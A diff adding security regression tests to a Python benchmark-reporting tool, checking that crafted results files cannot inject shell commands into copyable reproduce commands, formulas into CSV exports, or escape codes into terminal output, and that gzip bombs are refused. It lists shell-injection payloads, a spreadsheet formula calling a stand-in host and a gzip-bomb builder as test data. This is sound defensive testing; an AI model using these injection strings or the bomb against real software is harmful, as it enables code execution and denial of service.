@@ -8,6 +8,7 @@ seconds: the test fails, and the test run goes on."""
 
 from __future__ import annotations
 
+import json
 import subprocess
 import sys
 import textwrap
@@ -397,3 +398,229 @@ def test_the_bounded_search_means_what_re_search_means():
             assert compiled.search(text) == bool(regex.search(text)), (pattern, text)
             checked += 1
     assert checked > 8000
+
+
+# ---- results files ------------------------------------------------------------------------------
+
+SHELL_PAYLOADS = (
+    "0; touch {marker} #",
+    "$(touch {marker})",
+    "`touch {marker}`",
+    "x'; touch {marker}; echo '",
+    '"; touch {marker}; echo "',
+    "--basetemp={marker}",
+    "=touch",
+    "a\ntouch {marker}",
+)
+
+
+def results_document(records: list[dict], **fields) -> dict:
+    return {"format": "gemmconf-results", "version": 1, "complete": True, **fields,
+            "records": records}  # fmt: skip
+
+
+def plain_record(**fields) -> dict:
+    return {"id": "tiny/mm[fp32]", "backend": "eager", "outcome": "passed", "suite": "tiny",
+            "scenario": "mm", "op": "mm", "dtype": "fp32", "source": "suites/tiny.yaml:3",
+            **fields}  # fmt: skip
+
+
+def write_json(path: Path, document: dict) -> Path:
+    path.write_text(json.dumps(document))
+    return path
+
+
+def test_a_seed_that_is_not_an_integer_is_refused_by_every_report(tmp_path, capsys):
+    """A seed of "0; touch /tmp/x #" was copied into the page's reproduce command unquoted:
+    pasted into a shell, it ran the attacker's command. A seed is an integer everywhere."""
+    from gemmconf.report.cli import main as report_main
+
+    bad = write_json(
+        tmp_path / "r.json", results_document([plain_record(seed="0; touch /tmp/x #")])
+    )
+    for command in (["html", str(bad), "-o", str(tmp_path / "p.html")], ["csv", str(bad)]):
+        assert report_main(command) == 2
+        assert (
+            "r.json: record 0 ('tiny/mm[fp32]' on 'eager') has seed '0; touch /tmp/x #': "
+            "expected an integer or null" in capsys.readouterr().err
+        )
+    bad = write_json(tmp_path / "r.json", results_document([plain_record()], seed=True))
+    assert report_main(["diff", str(bad), str(bad)]) == 2
+    assert "the run's has seed True: expected an integer" in capsys.readouterr().err
+    assert not (tmp_path / "p.html").exists()
+
+
+def hostile_document(marker: Path) -> dict:
+    """Every text field a reproduce command or the header takes, each a shell payload."""
+    payloads = [p.format(marker=marker) for p in SHELL_PAYLOADS]
+    records = [
+        plain_record(
+            id=f"tiny/mm[{index}]",
+            backend=f"b{index}",
+            nodeid=payload,
+            target_arch=payload,
+            seed=[-5, 2**70, 7, None][index % 4],
+        )
+        for index, payload in enumerate(payloads)
+    ]
+    records.append(plain_record(id="tiny/mm[derived]", source=payloads[3] + ":3", backend="z"))
+    specs = {f"b{index}": payload for index, payload in enumerate(payloads)}
+    specs["z"] = payloads[1]
+    return results_document(
+        records, backend_specs=specs, command=f"pytest x; touch {marker}", seed=3
+    )
+
+
+def expected_words(record: dict, document: dict) -> list[str]:
+    """The arguments the reproduce command of `record` must give pytest, each value whole."""
+    from gemmconf import ids
+
+    nodeid = record.get("nodeid") or ids.node_id(record["source"], record["id"], record["backend"])
+    seed = record["seed"] if record.get("seed") is not None else document["seed"]
+    words = ["./" + nodeid if nodeid.startswith("-") else nodeid]
+    for name, value in (
+        ("--backend", document["backend_specs"][record["backend"]]),
+        ("--seed", str(seed)),
+        ("--target-arch", record.get("target_arch")),
+    ):
+        if value is not None:
+            words += [f"{name}={value}"] if value.startswith("-") else [name, value]
+    return words
+
+
+@pytest.fixture
+def browser(tmp_path: Path):
+    """test_browser's headless Chromium, skipped likewise where none is installed."""
+    import os
+
+    from test_browser import Chromium, find_chromium
+
+    binary = find_chromium()
+    if binary is None:
+        if os.environ.get("GEMMCONF_REQUIRE_BROWSER") == "1":
+            pytest.fail("Chromium is not installed and GEMMCONF_REQUIRE_BROWSER=1 asks for it")
+        pytest.skip("Chromium is not installed (apt-get install -y chromium)")
+    chromium = Chromium(binary, tmp_path / "profile")
+    try:
+        yield chromium
+    finally:
+        chromium.close()
+
+
+def test_every_copyable_command_of_a_hostile_page_is_safe_to_paste(browser, tmp_path):
+    """A shell payload in every field a command on the page takes (node id, source, backend
+    spec, seed, target, the run's command): each reproduce command, run by bash and by sh with
+    `pytest` a function that prints its arguments, gives pytest exactly the record's values, one
+    argument each, none of them read as an option of pytest's; the header's run command is
+    quoted word by word. Nothing the payloads name is ever created."""
+    from test_browser import READY
+
+    from gemmconf.report import page
+
+    marker = tmp_path / "pasted"
+    document = hostile_document(marker)
+    html = tmp_path / "page.html"
+    html.write_text(page.render(document, name="hostile.json"))
+    browser.open(html.as_uri())
+    browser.wait_for(READY)
+    commands = browser.evaluate(
+        """window.gemmconf.records.map(r => { window.gemmconf.openDetail(r);
+           return [r.id, document.querySelector('#detail .repro-command').textContent]; })"""
+    )
+    assert browser.errors() == [] and len(commands) == len(document["records"])
+    header = browser.evaluate("document.querySelector('.run-facts code').textContent")
+    by_id = {r["id"]: r for r in document["records"]}
+    stub = 'pytest() { printf "%s\\0" "$@"; }; '
+    runs = [(command, expected_words(by_id[id_], document)) for id_, command in commands]
+    runs.append((header, ["x;", "touch", str(marker)]))
+    for command, expected in runs:
+        for shell in ("bash", "sh"):
+            ran = subprocess.run(
+                [shell, "-c", stub + command], capture_output=True, text=True, cwd=tmp_path
+            )
+            assert ran.returncode == 0, (shell, command, ran.stderr)
+            assert ran.stdout.split("\0")[:-1] == expected, (shell, command)
+    assert not marker.exists()
+
+
+def test_a_results_file_cannot_put_a_formula_in_a_spreadsheet(tmp_path, capsys):
+    from gemmconf.report.cli import main as report_main
+
+    formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+1+1", "-1+2", "\t=1"]
+    records = [
+        plain_record(id=f"tiny/mm[{i}]", reason=text, op=text, backend=f"b{i}")
+        for i, text in enumerate(formulas)
+    ]
+    records.append(plain_record(id="tiny/mm[n]", reason="ok", metrics={"err_ratio": -0.5}))
+    path = write_json(tmp_path / "r.json", results_document(records))
+    assert report_main(["csv", str(path)]) == 0
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    for row, text in zip(rows, formulas, strict=False):
+        assert row["reason"] == row["op"] == "'" + text
+    assert rows[-1]["err_ratio"] == "-0.5"  # numbers stay numbers
+
+
+def test_report_output_shows_control_characters_as_escapes(tmp_path, capsys):
+    """An id with ESC[2J cleared the terminal of whoever ran `gemmconf report diff` on it."""
+    from gemmconf.report.cli import main as report_main
+
+    old = write_json(tmp_path / "old.json", results_document([plain_record()]))
+    new = write_json(
+        tmp_path / "new.json",
+        results_document(
+            [
+                plain_record(
+                    id="tiny/mm[\x1b[2J]",
+                    outcome="failed",
+                    reason="\x1b]0;title\x07red\u202eevil",
+                )
+            ]
+        ),
+    )
+    assert report_main(["diff", str(old), str(new)]) == 1
+    out = capsys.readouterr().out
+    assert "tiny/mm[\\x1b[2J]" in out and "\\x1b]0;title\\x07red\\u202eevil" in out
+    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
+
+
+def test_a_gzip_bomb_is_refused_in_bounded_memory(tmp_path):
+    """A 3 MB gzip file of spaces decompressed to 3 GiB took 149 s and 12.8 GB to read: now
+    nothing past 256 MiB is decompressed."""
+    import gzip
+
+    bomb = tmp_path / "bomb.json.gz"
+    with gzip.open(bomb, "wb", compresslevel=1) as stream:
+        stream.write(b'{"format": "gemmconf-results", "version": 1, "records": [], "pad": "')
+        for _ in range(17):
+            stream.write(b" " * (16 << 20))
+        stream.write(b'"}')
+    result = bounded(
+        f"""
+        from gemmconf.report.cli import main
+        cap_memory()
+        sys.exit(main(["diff", {str(bomb)!r}, {str(bomb)!r}]))
+        """,
+        tmp_path,
+    )
+    assert result.returncode == 2, result.stderr[-2000:]
+    assert "bomb.json.gz: holds more than 268,435,456 bytes decompressed" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "message"),
+    [
+        ("r.json", "[" * 100_000, "r.json: JSON nested deeper than Python reads"),
+        ("r.json.partial", '{"a": 1}\n[1]\n{}\n', "is not an object"),
+        ("r.json.partial", '[1]\n{"id": 1}\n', "record 0 is not an object"),
+    ],
+)
+def test_a_malformed_results_file_is_a_clear_error(tmp_path, capsys, name, text, message):
+    from gemmconf.report.cli import main as report_main
+
+    (tmp_path / name).write_text(text)
+    assert report_main(["csv", str(tmp_path / name)]) == 2
+    err = capsys.readouterr().err
+    assert message in err and "Traceback" not in err
